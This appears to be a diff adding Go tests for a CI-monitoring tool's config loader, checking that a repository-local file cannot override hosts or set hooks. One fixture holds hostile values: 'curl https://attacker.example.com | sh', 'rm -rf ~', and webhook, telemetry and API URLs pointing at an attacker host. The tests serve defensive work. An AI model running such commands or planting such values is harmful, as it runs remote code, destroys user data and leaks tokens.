@@ -0,0 +1,171 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+	"time"
+)
+
+func writeFile(t *testing.T, path, contents string) {
+	t.Helper()
+
+	if err := os.WriteFile(path, []byte(contents), 0o600); err != nil {
+		t.Fatalf("failed to write %s: %s", path, err)
+	}
+}
+
+func Test_Load(t *testing.T) {
+	dir := t.TempDir()
+	repoDir := t.TempDir()
+	globalPath := filepath.Join(dir, "config.yaml")
+
+	writeFile(t, globalPath, `
+poll_frequency: 10s
+output: json
+notify:
+  on: failure
+  slack_webhook_url: https://hooks.slack.com/services/global
+hosts:
+  gitlab.example.com:
+    provider: gitlab
+    token: glpat-global
+    base_url: https://gitlab.example.com/api/v4
+  github.com:
+    github_app:
+      app_id: 1234
+      private_key_path: /etc/pipescope/app.pem
+profiles:
+  - match: gitlab.example.com/platform/*
+    poll_frequency: 30s
+    output: text
+    notify:
+      on: change
+`)
+	writeFile(t, filepath.Join(repoDir, LocalFileName), `
+output: json
+hosts:
+  gitlab.example.com:
+    token: glpat-local
+    base_url: https://attacker.example.com
+`)
+
+	cfg, err := Load(globalPath, repoDir)
+	if err != nil {
+		t.Fatalf("unexpected error occurred. expected nil, got %s", err)
+	}
+
+	host, ok := cfg.Host("gitlab.example.com")
+	if !ok {
+		t.Fatal("expected host gitlab.example.com to be configured")
+	}
+
+	// Hosts cannot be configured by the repository-local file
+	wantHost := Host{Provider: "gitlab", Token: "glpat-global", BaseURL: "https://gitlab.example.com/api/v4"}
+	if host != wantHost {
+		t.Errorf("expected %v, got %v", wantHost, host)
+	}
+
+	if app := cfg.Hosts["github.com"].GitHubApp; app == nil || *app != (GitHubApp{AppID: 1234, PrivateKeyPath: "/etc/pipescope/app.pem"}) {
+		t.Errorf("expected GitHub App to be configured for github.com, got %v", app)
+	}
+
+	tests := []struct {
+		name     string
+		repoPath string
+
+		wantPollFrequency time.Duration
+		wantOutput        string
+		wantNotifyOn      string
+	}{
+		{name: "Matching profile overrides global settings", repoPath: "platform/api", wantPollFrequency: 30 * time.Second, wantOutput: "json", wantNotifyOn: "change"},
+		{name: "Non-matching profile is ignored", repoPath: "other/api", wantPollFrequency: 10 * time.Second, wantOutput: "json", wantNotifyOn: "failure"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(ts *testing.T) {
+			got := cfg.Resolve("gitlab.example.com", tt.repoPath)
+
+			if got.PollFrequency != tt.wantPollFrequency {
+				ts.Errorf("expected poll frequency %s, got %s", tt.wantPollFrequency, got.PollFrequency)
+			}
+
+			// The repository-local file takes precedence over profiles
+			if got.Output != tt.wantOutput {
+				ts.Errorf("expected output %s, got %s", tt.wantOutput, got.Output)
+			}
+
+			if got.Notify.On != tt.wantNotifyOn {
+				ts.Errorf("expected notify.on %s, got %s", tt.wantNotifyOn, got.Notify.On)
+			}
+
+			if got.Notify.SlackWebhookURL != "https://hooks.slack.com/services/global" {
+				ts.Errorf("expected global slack webhook to be inherited, got %q", got.Notify.SlackWebhookURL)
+			}
+		})
+	}
+}
+
+func Test_Load_UntrustedLocalSettings(t *testing.T) {
+	repoDir := t.TempDir()
+
+	writeFile(t, filepath.Join(repoDir, LocalFileName), `
+provider: gitlab
+access_token: glpat-local
+poll_frequency: 20s
+output: json
+notify:
+  desktop: true
+  on: failure
+  webhook_url: https://attacker.example.com/hook
+  on_failure: curl https://attacker.example.com | sh
+trace:
+  otlp_endpoint: https://attacker.example.com
+profiles:
+  - match: "*"
+    on_success: rm -rf ~
+`)
+
+	cfg, err := Load(filepath.Join(t.TempDir(), "missing.yaml"), repoDir)
+	if err != nil {
+		t.Fatalf("unexpected error occurred. expected nil, got %s", err)
+	}
+
+	want := Settings{PollFrequency: 20 * time.Second, Output: "json", Notify: Notify{Desktop: true, On: "failure"}}
+	if got := cfg.Resolve("github.com", "owner/repo"); got != want {
+		t.Errorf("expected %v, got %v", want, got)
+	}
+}
+
+func Test_Load_MissingFiles(t *testing.T) {
+	cfg, err := Load(filepath.Join(t.TempDir(), "missing.yaml"), t.TempDir())
+	if err != nil {
+		t.Fatalf("unexpected error occurred. expected nil, got %s", err)
+	}
+
+	if got := cfg.Resolve("github.com", "owner/repo"); got != (Settings{}) {
+		t.Errorf("expected empty settings, got %v", got)
+	}
+}
+
+func Test_Load_Malformed(t *testing.T) {
+	globalPath := filepath.Join(t.TempDir(), "config.yaml")
+	writeFile(t, globalPath, "poll_frequency: [")
+
+	if _, err := Load(globalPath, t.TempDir()); err == nil {
+		t.Error("expected an error, got nil")
+	}
+}
+
+func Test_GlobalPath(t *testing.T) {
+	t.Setenv("XDG_CONFIG_HOME", "/tmp/xdg")
+
+	got, err := GlobalPath()
+	if err != nil {
+		t.Fatalf("unexpected error occurred. expected nil, got %s", err)
+	}
+
+	if want := filepath.Join("/tmp/xdg", "pipescope", "config.yaml"); got != want {
+		t.Errorf("expected %s, got %s", want, got)
+	}
+}